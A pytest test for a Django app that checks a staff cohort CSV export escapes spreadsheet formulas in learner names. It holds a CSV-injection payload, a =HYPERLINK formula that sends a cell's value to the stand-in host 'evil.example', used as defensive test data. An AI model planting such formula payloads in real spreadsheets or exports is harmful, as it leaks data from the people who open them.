"""The staff cohort export writes a learner's formula-like name as text."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"klik")'


@pytest.mark.django_db
def test_staff_cohort_export_writes_a_formula_name_as_text(staff_client, cohort_a):
    UserFactory(
        username="penyusup",
        display_name=HYPERLINK,
        legal_name="@SUM(1+1)",
        centre=cohort_a.centre,
        cohort=cohort_a,
    )
    response = staff_client.get(reverse("centres:cohort_export", args=[cohort_a.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    learner = next(row for row in rows if "HYPERLINK" in row[0])
    assert learner[0] == f"'{HYPERLINK}"
    assert learner[1] == "'@SUM(1+1)"
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row
    )
